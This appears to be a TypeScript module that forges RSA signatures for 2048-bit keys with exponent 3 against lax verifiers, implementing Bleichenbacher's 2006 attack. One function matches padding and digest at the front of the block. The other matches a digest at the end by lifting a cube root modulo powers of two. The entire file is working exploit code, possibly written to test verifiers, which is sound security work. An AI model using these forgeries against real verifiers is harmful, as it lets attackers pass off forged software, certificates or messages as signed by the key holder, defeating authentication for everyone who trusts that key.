import type { KeyObject } from 'node:crypto';

/**
 * Signatures that are made without the private key, for verifiers that do not look at the whole block: a number is
 * chosen whose cube looks right where such a verifier looks. For keys of 2048 bits with the exponent 3.
 */

const BYTES = 256;

/** Daniel Bleichenbacher's of 2006: padding and digest in front, garbage behind. */
export function forgeFront(info: Buffer, key: KeyObject): Buffer {
  assertExponentThree(key);
  const front = Buffer.concat([Buffer.from('0001ffffffffffffffffffff00', 'hex'), info]);
  const least = toNumber(Buffer.concat([front, Buffer.alloc(BYTES - front.length)]));
  const root = cubeRoot(least) + 1n;
  if (
    !toBytes(root ** 3n)
      .subarray(0, front.length)
      .equals(front)
  )
    throw new Error('the forgery failed');
  return toBytes(root);
}

/**
 * The same for a verifier that looks at the end of the block alone. Only odd numbers have cube roots modulo powers
 * of two, so the digest has to end with an odd byte.
 */
export function forgeEnd(info: Buffer, key: KeyObject): Buffer {
  assertExponentThree(key);
  let root = 1n;
  for (let bit = 1n; bit < BigInt(info.length * 8); bit++) {
    const modulus = 1n << (bit + 1n);
    if ((root ** 3n - toNumber(info)) % modulus !== 0n) root |= 1n << bit;
  }
  if (
    !toBytes(root ** 3n)
      .subarray(-info.length)
      .equals(info)
  )
    throw new Error('the forgery failed');
  return toBytes(root);
}

function cubeRoot(number: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil((BYTES * 8) / 3));
  while (low < high) {
    const middle = (low + high + 1n) >> 1n;
    if (middle ** 3n <= number) low = middle;
    else high = middle - 1n;
  }
  return low;
}

function assertExponentThree(key: KeyObject): void {
  if (key.asymmetricKeyDetails?.publicExponent !== 3n) throw new Error('the forgery needs the exponent 3');
}

const toNumber = (bytes: Buffer): bigint => BigInt(`0x${bytes.toString('hex')}`);
const toBytes = (number: bigint): Buffer => Buffer.from(number.toString(16).padStart(BYTES * 2, '0'), 'hex');
